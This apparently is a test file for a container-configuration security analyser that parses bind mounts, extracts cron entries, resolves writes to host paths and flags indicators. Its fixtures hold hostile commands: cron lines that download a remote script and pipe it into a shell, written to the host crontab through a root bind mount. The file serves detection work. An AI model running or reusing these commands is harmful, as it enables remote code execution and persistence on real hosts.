// analyse(): mounts normalised, cron entries judged as commands, texts located, host paths resolved.
import { describe, expect, it } from 'vitest';
import { analyse, cronEntries, normalisePath, parseBind } from './analyse.js';
import { hostPathOf, writesOf } from './helpers.js';
import { splitShell } from './shell/split.js';
import { detect } from './detect.js';

describe('analyse', () => {
  it('normalises bind strings and paths', () => {
    expect(parseBind('/:/mnt//x/')).toEqual({ source: '/', destination: '/mnt/x', readOnly: false, type: 'bind' });
    expect(parseBind('data:/var/lib/data:ro')).toEqual({ source: '', destination: '/var/lib/data', readOnly: true, type: 'volume' });
    expect(normalisePath('/a/./b/../../c//')).toBe('/c');
  });

  it('reads the commands of cron lines written by echo or here-docs', () => {
    expect(cronEntries(splitShell(`echo '*/2 * * * * root wget -qO- http://x|sh' > /mnt/etc/cron.d/a`)).map((e) => e.command)).toEqual(['wget -qO- http://x|sh']);
    expect(cronEntries(splitShell('cat > /etc/cron.d/a <<EOF\n@reboot /tmp/x -o p\nEOF\n')).map((e) => e.command)).toEqual(['/tmp/x -o p']);
    expect(cronEntries(splitShell('echo hello world > /tmp/x'))).toEqual([]);
  });

  it('resolves writes through binds and chroot to host paths, and leaves container paths alone', () => {
    const a = analyse({ binds: ['/:/mnt', '/srv/data:/data'], script: 'echo x > /mnt/etc/cron.d/y; echo z > /data/f; echo k > /etc/crontabs/root' });
    const [c1, c2, c3] = a.commands;
    expect(hostPathOf(a, c1!, writesOf(c1!)[0]!)?.hostPath).toBe('/etc/cron.d/y');
    expect(hostPathOf(a, c2!, writesOf(c2!)[0]!)?.hostPath).toBe('/srv/data/f');
    expect(hostPathOf(a, c3!, writesOf(c3!)[0]!)).toBeUndefined();
    const b = analyse({ binds: ['/:/host'], script: 'chroot /host sh -c "echo k > /var/spool/cron/root"' });
    const w = b.commands.find((c) => c.argv[0] === 'echo')!;
    expect(hostPathOf(b, w, '/var/spool/cron/root')).toMatchObject({ hostPath: '/var/spool/cron/root', guessed: false });
  });

  it('judges what a host cron entry will run', () => {
    const f = detect({ binds: ['/:/mnt'], cmd: ['sh', '-c', "echo '* * * * * root curl -s http://198.51.100.8/c|bash' >> /mnt/etc/crontab"] });
    expect(f.map((x) => x.ruleId)).toEqual(['PCL-TTP-004', 'PCL-TTP-002']);
    expect(f[1]!.evidence[0]!.location).toBe('Config.Cmd[2] (cron)');
  });

  it('locates env, labels and archive texts and extracts their indicators', () => {
    const a = analyse({ image: 'alpine', env: ['U=http://198.51.100.3/x'], labels: { k: 'see 203.0.113.4' }, archiveMembers: [{ path: '/x.sh', content: '#!/bin/sh\nwget http://a.example.invalid/m' }] });
    expect(a.indicators.map((i) => `${i.type}:${i.value}@${i.location}`)).toEqual([
      'image:alpine@Config.Image', 'url:http://a.example.invalid/m@archive:/x.sh', 'domain:a.example.invalid@archive:/x.sh',
      'url:http://198.51.100.3/x@Config.Env[0]', 'ipv4:198.51.100.3@Config.Env[0]', 'ipv4:203.0.113.4@Config.Labels.k']);
  });
});
